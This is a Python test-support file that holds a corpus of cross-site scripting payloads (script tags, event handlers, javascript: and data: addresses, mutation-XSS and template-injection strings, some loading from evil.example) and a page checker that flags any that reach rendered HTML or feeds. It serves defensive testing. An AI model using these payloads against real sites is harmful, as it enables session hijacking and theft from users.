"""The cross-site scripting corpus (issue 7, point 2): hostile strings a contributor or reader might type, and the
checks every page showing them must pass (tests/test_xss_corpus.py, tests/browser/test_xss.py).

Each payload is what an attacker would paste into a headline, caption, tag, biography or search box. None may
ever reach a page as markup: shown as text, stripped by the body sanitiser, or refused with a form error.
"""

# ruff: noqa: E501 - each payload stays whole on its line, as an attacker would paste it

import html
import json
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

# (name, payload). Names keep a failure readable; the payloads themselves are the point.
CORPUS = [
    # Script elements, plain and disguised
    ("script", "<script>alert('xss-1')</script>"),
    ("script-mixed-case", "<ScRiPt>alert('xss-2')</sCrIpT>"),
    ("script-src", "<script src=//evil.example/x.js></script>"),
    ("script-in-attribute-break", '"><script>alert("xss-3")</script>'),
    ("script-single-quote-break", "'><script>alert('xss-4')</script>"),
    ("script-unterminated", "<script>alert('xss-5')"),
    ("script-split-by-null-free-comment", "<scr<!-- -->ipt>alert('xss-6')</scr<!-- -->ipt>"),
    ("script-nested", "<scr<script>ipt>alert('xss-7')</scr</script>ipt>"),
    ("script-slash-attribute", "<script/xss src=//evil.example/x.js></script>"),
    ("script-type-module", "<script type=module>alert('xss-8')</script>"),
    # Closers that end the element a value is printed in
    ("close-script", "</script><script>alert('xss-9')</script>"),
    ("close-script-upper", "</SCRIPT ><img src=x onerror=alert('xss-10')>"),
    ("close-title", "</title><script>alert('xss-11')</script>"),
    ("close-textarea", "</textarea><script>alert('xss-12')</script>"),
    ("close-comment", "--><script>alert('xss-13')</script><!--"),
    ("close-style", "</style><script>alert('xss-14')</script>"),
    ("close-noscript", "</noscript><img src=x onerror=alert('xss-15')>"),
    ("close-option", "</option></select><img src=x onerror=alert('xss-16')>"),
    ("cdata", "<![CDATA[<script>alert('xss-17')</script>]]>"),
    # Event handlers on many elements
    ("img-onerror", "<img src=x onerror=alert('xss-18')>"),
    ("img-onerror-no-quotes-slash", "<img/src=x/onerror=alert('xss-19')>"),
    ("body-onload", "<body onload=alert('xss-20')>"),
    ("svg-onload", "<svg onload=alert('xss-21')>"),
    ("svg-slash-onload", "<svg/onload=alert('xss-22')>"),
    ("input-autofocus", "<input autofocus onfocus=alert('xss-23')>"),
    ("details-ontoggle", "<details open ontoggle=alert('xss-24')>"),
    ("video-source-onerror", "<video><source onerror=alert('xss-25')></video>"),
    ("audio-onerror", "<audio src=x onerror=alert('xss-26')>"),
    ("iframe-onload", "<iframe onload=alert('xss-27')></iframe>"),
    ("marquee-onstart", "<marquee onstart=alert('xss-28')>x</marquee>"),
    ("div-onmouseover", "<div onmouseover=\"alert('xss-29')\">hover</div>"),
    ("a-onclick", "<a href=# onclick=alert('xss-30')>click</a>"),
    ("p-onpointerenter-tab", "<p\tonpointerenter=alert('xss-31')>x</p>"),
    ("select-onfocus", "<select autofocus onfocus=alert('xss-32')></select>"),
    ("textarea-onfocus", "<textarea autofocus onfocus=alert('xss-33')>"),
    ("attribute-event-break", "\" onmouseover=\"alert('xss-34')\" x=\""),
    ("attribute-event-break-single", "' onfocus='alert(1)' autofocus x='"),
    ("attribute-unquoted-break", "x onmouseover=alert('xss-35')"),
    ("html5-form-formaction", "<form><button formaction=javascript:alert('xss-36')>x</button></form>"),
    # javascript:, data: and vbscript: addresses, plain and disguised
    ("a-javascript", "<a href=\"javascript:alert('xss-37')\">link</a>"),
    ("a-javascript-mixed-case", "<a href=\"JaVaScRiPt:alert('xss-38')\">link</a>"),
    ("a-javascript-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>"),
    ("a-javascript-hex-entities", "<a href=\"&#x6A;avascript&#x3A;alert('xss-39')\">x</a>"),
    ("a-javascript-tab", "<a href=\"jav\tascript:alert('xss-40')\">x</a>"),
    ("a-javascript-newline", "<a href=\"jav&#x0A;ascript:alert('xss-41')\">x</a>"),
    ("a-javascript-leading-space", "<a href=\" &#14; javascript:alert('xss-42')\">x</a>"),
    ("a-javascript-named-entities", "<a href=\"javascript&colon;alert('xss-43')\">x</a>"),
    ("a-data-html", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
    ("a-vbscript", "<a href=\"vbscript:msgbox('xss-44')\">x</a>"),
    ("bare-javascript-url", "javascript:alert('xss-45')"),
    ("bare-data-url", "data:text/html,<script>alert('xss-46')</script>"),
    ("img-javascript-src", "<img src=\"javascript:alert('xss-47')\">"),
    ("object-data", "<object data=\"javascript:alert('xss-48')\"></object>"),
    ("embed-src", "<embed src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">"),
    ("base-href", "<base href=\"javascript:alert('xss-49')//\">"),
    ("meta-refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert('xss-50')\">"),
    # SVG and MathML
    ("svg-script", "<svg><script>alert('xss-51')</script></svg>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert('xss-52') /><text>x</text></a></svg>"),
    ("svg-use-data", "<svg><use href=\"data:image/svg+xml,<svg id='x'><image href=1 onerror=alert(1) /></svg>#x\"/></svg>"),
    ("svg-xlink", "<svg><a xlink:href=\"javascript:alert('xss-53')\"><text>x</text></a></svg>"),
    ("mathml-href", "<math><mtext><a href=\"javascript:alert('xss-54')\">x</a></mtext></math>"),
    ("mathml-maction", "<math><maction actiontype=statusline xlink:href=javascript:alert('xss-55')>x</maction></math>"),
    ("svg-foreignobject-mxss", "<svg></p><style><a id=\"</style><img src=1 onerror=alert('xss-56')>\">"),
    ("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-57')>\">"),
    # Broken and unterminated markup
    ("unterminated-img", "<img src=x onerror=alert('xss-58')"),
    ("unterminated-comment", "<!-- <img src=x onerror=alert('xss-59')>"),
    ("unclosed-quote", "<a href=\"https://example.org/ onclick=alert('xss-60')>x</a>"),
    ("stray-closers", "</p></div></main></body></html><p>"),
    ("double-open", "<<img src=x onerror=alert('xss-61')>>"),
    ("processing-instruction", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
    # CSS
    ("style-expression", "<div style=\"width: expression(alert('xss-62'))\">x</div>"),
    ("style-url-javascript", "<p style=\"background:url(javascript:alert('xss-63'))\">x</p>"),
    ("style-element-import", "<style>@import 'javascript:alert(1)';</style>"),
    ("link-stylesheet", "<link rel=stylesheet href=\"javascript:alert('xss-64')\">"),
    # Template injection: printed as written, never evaluated
    ("django-template-variable", "{{ 7*7 }} {{ request.user.password }}"),
    ("django-template-tag", "{% debug %}{% load static %}"),
    ("jinja-expression", "${7*7} #{7*7} <%= 7*7 %>"),
    ("angular-expression", "{{constructor.constructor('alert(1)')()}}"),
    # Unicode: direction overrides, zero-width characters, look-alikes
    ("rtl-override", "\u202etxt.exe\u202c <img src=x onerror=alert('xss-65')>"),
    ("rtl-override-in-link", "<a href=\"java\u202escript:alert(1)\">\u202eكليك</a>"),
    ("zero-width", "<scr\u200bipt>alert('xss-66')</scr\u200bipt> jav\u200dascript:alert(1)"),
    ("bom-and-joiners", "\ufeff<img src=x\u200c onerror=alert('xss-67')>"),
    ("fullwidth-brackets", "\uff1cscript\uff1ealert('xss-68')\uff1c/script\uff1e"),
    ("arabic-with-script", "خبر عاجل <script>alert('خطر')</script> من دمشق"),
    ("entities-only", "&lt;script&gt;alert('xss-69')&lt;/script&gt; &amp;lt; &#60;b&#62;"),
    ("json-breaker", "\"}]}</script><script>alert('xss-70')</script>"),
    ("line-separators", "a\u2028b\u2029c <img src=x onerror=alert('xss-71')>"),
    # A guessed or copied CSP nonce: only the one in this response's header makes an inline element ours
    ("script-nonce", "<script nonce=\"x\">alert('xss-73')</script>"),
    ("style-nonce", "<style nonce=abc>body{background:url(//evil.example/x)}</style>"),
    ("iframe-nonce", "<iframe nonce=abc src=//evil.example/></iframe>"),
]

# Strings no field takes as they are: a NUL byte, and a string longer than any field allows. The forms answer
# them with an error (Arabic in the Arabic admin) or strip them; never a 500.
NUL = ("nul-byte", "<scr\x00ipt>alert('xss-72')</scr\x00ipt>")
VERY_LONG = ("very-long", "<img src=x onerror=alert(1)>" + "خ" * 20_000)

PAYLOADS = [payload for _name, payload in CORPUS]
# The shortest field limit (a tag name, the support button): every payload fits every field whole.
SHORTEST_FIELD = 100
assert max(map(len, PAYLOADS)) <= SHORTEST_FIELD
NAMES = [name for name, _payload in CORPUS]

# The nastiest: the ones the browser test types in first.
BROWSER_SUBSET = [
    "script", "script-in-attribute-break", "close-script", "close-title", "close-textarea", "close-comment",
    "img-onerror", "svg-onload", "svg-slash-onload", "input-autofocus", "details-ontoggle", "iframe-onload",
    "attribute-event-break", "attribute-event-break-single", "a-javascript", "a-javascript-entities",
    "a-javascript-tab", "svg-script", "svg-foreignobject-mxss", "noscript-mxss", "unterminated-img",
    "rtl-override", "zero-width", "json-breaker", "style-url-javascript", "meta-refresh",
]


def payload(name):
    return dict(CORPUS)[name]


def pack(payloads, limit, separator=" "):
    """The payloads joined into as few strings as fit in ``limit`` characters each; longer ones are left out."""
    groups, current = [], ""
    for text in payloads:
        if len(text) > limit:
            continue
        candidate = f"{current}{separator}{text}" if current else text
        if len(candidate) > limit:
            groups.append(current)
            candidate = text
        current = candidate
    return [*groups, current] if current else groups


# Checking pages --------------------------------------------------------------------------------------------

VOID_ELEMENTS = {
    "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr",
}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset", "cite",
    "codebase", "dynsrc", "lowsrc", "ping",
}
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
# Elements a payload brings and no page of ours ever uses: finding one means markup got through. (Our icons are
# <svg>/<use> and the admin's filters <details>: an injected one of those is caught by its handler or address.)
FOREIGN_ELEMENTS = {
    "iframe", "object", "embed", "math", "base", "frame", "frameset", "applet", "marquee", "maction", "mtext",
    "animate", "foreignobject", "video", "audio", "source", "noscript", "style", "x:script", "body", "html", "head",
}
# Scripts that are data, never run: JSON-LD, and the admin's json_script blocks.
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}


def dangerous_url(value):
    """Whether an address would run script, read as the browser does (the URL standard): entities decoded,
    control characters and spaces at either end dropped, tabs and newlines anywhere dropped, case ignored."""
    address = html.unescape(value or "").strip("".join(map(chr, range(0x21))))
    return re.sub(r"[\t\n\r]", "", address).lower().startswith(DANGEROUS_SCHEMES)


class _PageChecker(HTMLParser):
    def __init__(self, nonce=None):
        super().__init__(convert_charrefs=True)
        self.nonce = nonce
        self.problems, self.stack, self.json_ld = [], [], []
        self._in_json_ld = False

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)
        if tag not in VOID_ELEMENTS:
            self.stack.append((tag, self.getpos()))

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag, attrs):
        where = f"<{tag}> at line {self.getpos()[0]}"
        attributes = dict(attrs)
        # A nonce is the server's per-response secret (CSP): only an element carrying this response's own is ours.
        ours = bool(self.nonce) and attributes.get("nonce") == self.nonce
        if "nonce" in attributes and not ours:
            self.problems.append(f"nonce that is not this response's {where}: {attributes['nonce']!r}")
        if tag in FOREIGN_ELEMENTS and not ours and not (tag == "body" and not self.stack[1:]) \
                and tag not in {"html", "head"}:
            self.problems.append(f"foreign element {where}: {attrs}")
        if tag in {"html", "head", "body"} and any(name == tag for name, _pos in self.stack):
            self.problems.append(f"nested {where}")
        if tag == "script":
            kind = (attributes.get("type") or "").strip().lower()
            if kind in DATA_SCRIPT_TYPES:
                self._in_json_ld = kind == "application/ld+json"
            elif not attributes.get("src") and not ours:
                self.problems.append(f"inline script {where}")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.problems.append(f"meta refresh {where}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= {where}")
            if name in URL_ATTRIBUTES and dangerous_url(value):
                self.problems.append(f"dangerous address {name}={value!r} {where}")
            if name == "style" and re.search(r"expression|javascript|url\(", value or "", re.I):
                self.problems.append(f"dangerous style {value!r} {where}")

    def handle_data(self, data):
        if self._in_json_ld:
            self.json_ld.append(data)

    def handle_endtag(self, tag):
        self._in_json_ld = False
        if tag in VOID_ELEMENTS:
            return
        if not self.stack or self.stack[-1][0] != tag:
            open_tags = [name for name, _pos in self.stack[-4:]]
            self.problems.append(f"unbalanced </{tag}> at line {self.getpos()[0]}, open: {open_tags}")
            # Recover at the matching element, so one slip is reported once.
            names = [name for name, _pos in self.stack]
            if tag in names:
                del self.stack[len(names) - 1 - names[::-1].index(tag):]
            return
        self.stack.pop()


def csp_nonce(response):
    """The nonce the response's Content-Security-Policy header allows, or None."""
    policy = response.headers.get("Content-Security-Policy") or response.headers.get(
        "Content-Security-Policy-Report-Only") or ""
    found = re.search(r"'nonce-([^']+)'", policy)
    return found[1] if found else None


def check_html(page, where=""):
    """Problems of one HTML page: markup from a payload, event handlers, script addresses, unbalanced tags.

    ``page`` is a response (its Content-Security-Policy nonce is the only one an inline script or style may
    carry) or a string of HTML (no inline script or style is ours).
    """
    content, nonce = page, None
    if not isinstance(page, str):
        content, nonce = page.content.decode(), csp_nonce(page)
    checker = _PageChecker(nonce)
    checker.feed(content)
    checker.close()
    problems = list(checker.problems)
    if checker.stack:
        problems.append(f"never closed: {[name for name, _pos in checker.stack]}")
    for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', content, re.S):
        if re.search(r"</script|<!--", block, re.I):
            problems.append("JSON-LD block holds </script or <!--")
        try:
            json.loads(block)
        except ValueError as error:
            problems.append(f"JSON-LD is not JSON: {error}")
    return [f"{where}: {problem}" for problem in problems]


def check_xml(content, where=""):
    """A feed or sitemap parses as XML, and the text payloads became stays text (no element from them)."""
    try:
        root = ElementTree.fromstring(content)
    except ElementTree.ParseError as error:
        return [f"{where}: not well-formed XML: {error}"]
    problems = []
    for element in root.iter():
        name = element.tag.rpartition("}")[2].lower()
        if name in FOREIGN_ELEMENTS | {"script", "img", "a", "p"}:
            problems.append(f"{where}: element <{name}> in the XML")
    return problems
